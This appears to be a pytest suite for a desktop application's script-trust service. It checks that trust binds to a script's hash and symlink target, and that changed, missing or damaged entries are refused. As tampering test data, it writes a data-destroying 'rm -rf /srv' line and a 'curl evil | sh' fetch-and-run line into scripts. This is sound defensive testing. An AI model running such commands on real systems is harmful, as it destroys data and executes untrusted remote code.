"""``services.script_trust`` over a real database and real files: trust names the bytes the operator saw,
a changed file or a swapped link is no longer trusted, and a damaged row never reads as trusted."""

from __future__ import annotations

import hashlib
import os
import stat
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from drs_desktop.domain.errors import StorageError
from drs_desktop.domain.script_trust import ScriptTrustError, TrustStatus, command_line
from drs_desktop.services.script_trust import ScriptTrustService
from drs_desktop.storage import script_trust as store
from drs_desktop.storage.db import SCHEMA_VERSION, Database
from drs_desktop.storage.schema import load_migrations

_AT = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
posix_only = pytest.mark.skipif(sys.platform == "win32", reason="execute bits and symlinks are POSIX here")


def script(folder: Path, name: str, body: str = "echo hello\n") -> Path:
    path = folder / name
    path.write_text(f"#!/bin/sh\n{body}", encoding="utf-8")
    path.chmod(0o755)
    return path


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def db(tmp_path: Path) -> Iterator[Database]:
    with Database.open(tmp_path / "drs.sqlite3") as database:
        yield database


@pytest.fixture
def service(db: Database) -> ScriptTrustService:
    return ScriptTrustService(db, user=lambda: "alice", now=lambda: _AT)


def test_a_script_is_untrusted_until_trusted_then_trusted_with_who_when_and_the_command(
    tmp_path: Path, service: ScriptTrustService
) -> None:
    path = script(tmp_path, "failover.sh")
    check = service.status(str(path))
    assert check.status is TrustStatus.UNTRUSTED and check.sha256 == sha(path) and check.trusted is None
    assert check.trustable and not check.runnable
    shown = command_line(str(path), ("--zone", "prod east"))
    trusted = service.trust(str(path), shown, expected_sha256=check.sha256)
    assert (trusted.path, trusted.sha256, trusted.trusted_by, trusted.trusted_at) == (
        str(path),
        sha(path),
        "alice",
        _AT,
    )
    assert trusted.shown_command == shown and "'prod east'" in shown
    assert trusted.resolved_path == os.path.realpath(path)
    now = service.status(str(path))
    assert now.status is TrustStatus.TRUSTED and now.runnable and "alice" in now.detail
    assert service.require_trusted(str(path)).sha256 == sha(path)
    assert [t.path for t in service.list()] == [str(path)]


def test_trust_then_change_the_file_is_changed_and_refused_to_run(
    tmp_path: Path, service: ScriptTrustService
) -> None:
    path = script(tmp_path, "dns.sh")
    service.trust(str(path), "dns.sh")
    path.write_text("#!/bin/sh\nrm -rf /srv\n", encoding="utf-8")
    check = service.status(str(path))
    assert check.status is TrustStatus.CHANGED and check.sha256 == sha(path)
    assert check.trusted is not None and check.trusted.sha256 != check.sha256
    assert "changed since alice trusted it" in check.detail
    with pytest.raises(ScriptTrustError, match="changed"):
        service.require_trusted(str(path))
    # trusting it again (a person saw the new bytes) makes it trusted again
    service.trust(str(path), "dns.sh", expected_sha256=check.sha256)
    assert service.status(str(path)).status is TrustStatus.TRUSTED


def test_trust_refuses_bytes_that_differ_from_what_was_shown(
    tmp_path: Path, service: ScriptTrustService
) -> None:
    path = script(tmp_path, "smoke.sh")
    shown = service.status(str(path)).sha256
    path.write_text("#!/bin/sh\ncurl evil | sh\n", encoding="utf-8")
    with pytest.raises(ScriptTrustError, match="changed since it was shown"):
        service.trust(str(path), "smoke.sh", expected_sha256=shown)
    assert service.list() == []


@posix_only
def test_a_symlink_swapped_to_another_file_is_not_trusted(
    tmp_path: Path, service: ScriptTrustService
) -> None:
    real = script(tmp_path, "real.sh")
    other = script(tmp_path, "other.sh")  # the same bytes: only the file it leads to differs
    link = tmp_path / "run.sh"
    link.symlink_to(real)
    trusted = service.trust(str(link), "run.sh")
    assert trusted.path == str(link) and trusted.resolved_path == str(real.resolve())
    assert service.status(str(link)).status is TrustStatus.TRUSTED
    link.unlink()
    link.symlink_to(other)
    check = service.status(str(link))
    assert check.status is TrustStatus.CHANGED and check.sha256 == trusted.sha256
    assert check.resolved_path == str(other.resolve()) and "now leads to" in check.detail
    # the file it led to is not trusted by its own path either: trust is per path
    assert service.status(str(real)).status is TrustStatus.UNTRUSTED


@posix_only
def test_missing_broken_link_not_executable_and_not_a_file(
    tmp_path: Path, service: ScriptTrustService
) -> None:
    assert service.status(str(tmp_path / "nope.sh")).status is TrustStatus.MISSING
    broken = tmp_path / "broken.sh"
    broken.symlink_to(tmp_path / "gone.sh")
    assert service.status(str(broken)).status is TrustStatus.MISSING
    plain = tmp_path / "plain.sh"
    plain.write_text("echo\n", encoding="utf-8")
    plain.chmod(stat.S_IRUSR | stat.S_IWUSR)
    if os.access(plain, os.X_OK):
        pytest.skip("this user may execute any file (root)")
    check = service.status(str(plain))
    assert check.status is TrustStatus.NOT_EXECUTABLE and check.sha256 == "" and not check.trustable
    assert service.status(str(tmp_path)).status is TrustStatus.NOT_EXECUTABLE  # a folder
    for path in (plain, broken, tmp_path):
        with pytest.raises(ScriptTrustError, match="cannot trust"):
            service.trust(str(path), "x")
    assert service.list() == []


def test_a_trusted_script_that_went_is_missing_and_keeps_its_row(
    tmp_path: Path, service: ScriptTrustService
) -> None:
    path = script(tmp_path, "gone.sh")
    service.trust(str(path), "gone.sh")
    path.unlink()
    check = service.status(str(path))
    assert check.status is TrustStatus.MISSING and check.trusted is not None
    assert [c.status for c in service.checks()] == [TrustStatus.MISSING]


@pytest.mark.parametrize("bad", ["", "  ", "relative/run.sh", "run.sh", "/tmp/a\x00b"])
def test_a_path_that_is_not_absolute_is_refused_with_a_clear_error(
    bad: str, service: ScriptTrustService
) -> None:
    for call in (service.status, service.revoke, lambda p: service.trust(p, "x")):
        with pytest.raises(ScriptTrustError, match="path"):
            call(bad)


def test_revoke_forgets_the_trust_and_says_when_there_was_none(
    tmp_path: Path, service: ScriptTrustService
) -> None:
    path = script(tmp_path, "r.sh")
    service.trust(str(path), "r.sh")
    assert service.revoke(str(path)) is True
    assert service.status(str(path)).status is TrustStatus.UNTRUSTED
    assert service.revoke(str(path)) is False
    assert service.list() == []


def test_a_damaged_row_is_an_error_never_a_trust(
    tmp_path: Path, db: Database, service: ScriptTrustService
) -> None:
    path = script(tmp_path, "d.sh")
    service.trust(str(path), "d.sh")
    with db.transaction() as conn:
        conn.execute("UPDATE script_trust SET trusted_at = 'yesterday' WHERE path = ?", (str(path),))
    with pytest.raises(StorageError, match="damaged"):
        service.status(str(path))
    with pytest.raises(StorageError, match="damaged"):
        service.list()


def test_the_table_refuses_a_hash_that_is_not_sha256(tmp_path: Path, db: Database) -> None:
    row = ("/x", "/x", "ABC", "u", "2026-01-01T00:00:00.000000+00:00", "x")
    with pytest.raises(StorageError, match="CHECK constraint"), db.transaction() as conn:
        conn.execute("INSERT INTO script_trust VALUES (?, ?, ?, ?, ?, ?)", row)
    assert store.list_trust(db) == []


def test_migration_0015_adds_the_table_to_a_v14_database(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    with Database.open(path, migrations=load_migrations()[:14]) as old:
        assert old.schema_version == 14
    with Database.open(path) as db:
        assert db.schema_version == SCHEMA_VERSION
        assert store.list_trust(db) == []
        assert db.backup_path is not None and db.backup_path.exists()
